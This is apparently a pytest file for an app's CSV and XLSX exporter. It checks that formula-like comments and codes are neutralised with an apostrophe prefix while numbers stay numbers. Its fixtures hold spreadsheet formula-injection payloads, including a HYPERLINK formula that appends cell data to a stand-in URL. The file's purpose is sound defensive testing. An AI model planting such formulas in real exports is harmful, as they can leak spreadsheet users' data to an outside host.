"""Every CSV and XLSX the app writes goes through the one neutraliser (issue 11, findings 8 and
11): a comment ``=HYPERLINK("http://x"&A1,"y")`` (or one starting with +, -, @, tab, CR) never
runs as a formula, numbers stay numbers, and old data holding a control character no XLSX can
hold still exports (with U+FFFD in its place) instead of failing for everyone."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from sqlalchemy import select, update

from data.bootstrap import prepare_database
from data.catalogue_store import list_metrics
from data.db import dispose_engine, reading, writing
from data.exporter import long_format_frame, to_csv_bytes, to_xlsx_bytes, wide_template_frame
from data.models import Measurement, Organisation
from data.spreadsheet import neutralise
from metrics.periods import Quarter
from reports.gather import board_inputs, find_organisation
from reports.sheets import organisation_csv, organisation_workbook
from tests.conftest import TODAY
from ui.detail import DETAIL_COLUMNS, csv_bytes

ROOT = Path(__file__).resolve().parents[1]
HYPERLINK = '=HYPERLINK("http://x"&A1,"y")'
FORMULAS = [HYPERLINK, "+1+A1", "-2+B1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "rad\r=1+1"]
# As they come out: a carriage return inside a CSV cell is a line feed (it would end the row).
IN_CSV = ["'" + f for f in FORMULAS[:5]] + ["'\n=1+1", "rad\n=1+1"]
IN_XLSX = ["'" + f for f in FORMULAS[:6]] + ["rad\r=1+1"]
OLD_CONTROL = "gammal\x0bkommentar"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUARTER = Quarter(2025, 2)


@pytest.fixture(scope="module")
def url(tmp_path_factory):
    """The demo, with formula-like comments and codes and one comment holding ``\\x0b`` written
    straight into the database, as old data from before the forms refused it."""
    url = f"sqlite:///{tmp_path_factory.mktemp('export') / 'export.db'}"
    prepare_database(url, demo_if_empty=True, today=TODAY)
    with writing(url) as session:
        ekbacka = session.scalar(select(Organisation.id).where(Organisation.code == "demo-ekbacka"))
        ids = session.scalars(select(Measurement.id).where(Measurement.organisation_id == ekbacka)
                              .order_by(Measurement.id).limit(len(FORMULAS) + 1)).all()
        for measurement_id, comment in zip(ids, [*FORMULAS, OLD_CONTROL], strict=True):
            session.execute(update(Measurement).where(Measurement.id == measurement_id).values(comment=comment))
        session.execute(update(Organisation).where(Organisation.code == "demo-granlunda").values(code="@granlunda"))
    yield url
    dispose_engine(url)


def csv_cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8"), newline="")))


def xlsx_cells(content: bytes) -> list[list[object]]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [list(row) for sheet in book.worksheets for row in sheet.iter_rows(values_only=True)]


def assert_neutralised(rows: list[list[object]]) -> None:
    """No text cell would run as a formula; each formula comment is there with its ``'`` prefix."""
    texts = [cell for row in rows for cell in row if isinstance(cell, str)]
    running = [t for t in texts if t.startswith(FORMULA_STARTS) and neutralise(t) != t]
    assert running == []


def test_the_long_export_csv_and_xlsx(url):
    with reading(url) as session:
        frame = long_format_frame(session=session)
    rows = csv_cells(to_csv_bytes(frame))
    assert_neutralised(rows)
    comments = {row[5] for row in rows}
    assert set(IN_CSV) <= comments
    assert OLD_CONTROL in comments
    book = xlsx_cells(to_xlsx_bytes(frame))  # "Exportera alla" and `cli.py export x.xlsx`
    assert_neutralised(book)
    assert set(IN_XLSX) <= {row[5] for row in book}
    assert "gammal\ufffdkommentar" in {row[5] for row in book}
    assert all(isinstance(row[3], int | float) for row in book[1:])  # numbers stay numbers


def test_the_wide_template_neutralises_codes_and_keeps_numbers(url):
    with reading(url) as session:
        granlunda = find_organisation(session=session, code="@granlunda")
        frame = wide_template_frame(session=session, organisation_id=granlunda.id, last=QUARTER)
    rows = csv_cells(to_csv_bytes(frame))
    assert_neutralised(rows)
    assert rows[1][0] == "'@granlunda"
    book = xlsx_cells(to_xlsx_bytes(frame, sheet_name="effekt"))
    assert book[1][0] == "'@granlunda"
    assert isinstance(book[1][4], int | float)


def test_the_metric_detail_csv(url):
    with reading(url) as session:
        metric = next(m for m in list_metrics(session=session) if m.code == "customer_satisfaction")
    frame = pd.DataFrame([[QUARTER.index - i, "k", -1.5 * (i + 1), "measured", comment, None, None, None, None, None, 0]
                          for i, comment in enumerate(FORMULAS)], columns=DETAIL_COLUMNS)
    rows = csv_cells(csv_bytes(frame, metric, "=ekbacka"))
    assert_neutralised(rows)
    assert rows[1][:2] == ["'=ekbacka", "customer_satisfaction"]
    assert [row[5] for row in rows[1:]] == IN_CSV
    assert [row[3] for row in rows[1:3]] == ["-1.5", "-3.0"]  # a negative number is not neutralised


def test_plain_numbers_are_not_neutralised_and_a_prefix_round_trips():
    from data.spreadsheet import deneutralise

    assert [neutralise(t) for t in ("-5", "+1.5e3", "-0.25", "-", "-x", "+A1")] == \
        ["-5", "+1.5e3", "-0.25", "'-", "'-x", "'+A1"]
    assert all(deneutralise(neutralise(f)) == f for f in FORMULAS)


def test_the_board_workbook_and_csv(url):
    with reading(url) as session:
        organisation = find_organisation(session=session, code="demo-ekbacka")
        inputs = board_inputs(session=session, organisation=organisation, quarter=QUARTER, language="sv", today=TODAY)
    book = xlsx_cells(organisation_workbook(inputs, organisation.code))
    assert_neutralised(book)
    texts = {cell for row in book for cell in row if isinstance(cell, str)}
    assert "'" + HYPERLINK in texts
    assert "gammal\ufffdkommentar" in texts
    rows = csv_cells(organisation_csv(inputs, organisation.code))
    assert_neutralised(rows)
    assert "'" + HYPERLINK in {row[5] for row in rows}


@pytest.mark.parametrize("suffix", ["xlsx", "csv"])
def test_cli_export_succeeds_and_neutralises(url, tmp_path, suffix):
    out = tmp_path / f"x.{suffix}"
    result = subprocess.run([sys.executable, "cli.py", "--database", url, "export", str(out)], cwd=ROOT,
                            capture_output=True, text=True, timeout=300)
    assert result.returncode == 0, result.stderr
    rows = xlsx_cells(out.read_bytes()) if suffix == "xlsx" else csv_cells(out.read_bytes())
    assert_neutralised(rows)
    assert "'" + HYPERLINK in {row[5] for row in rows}
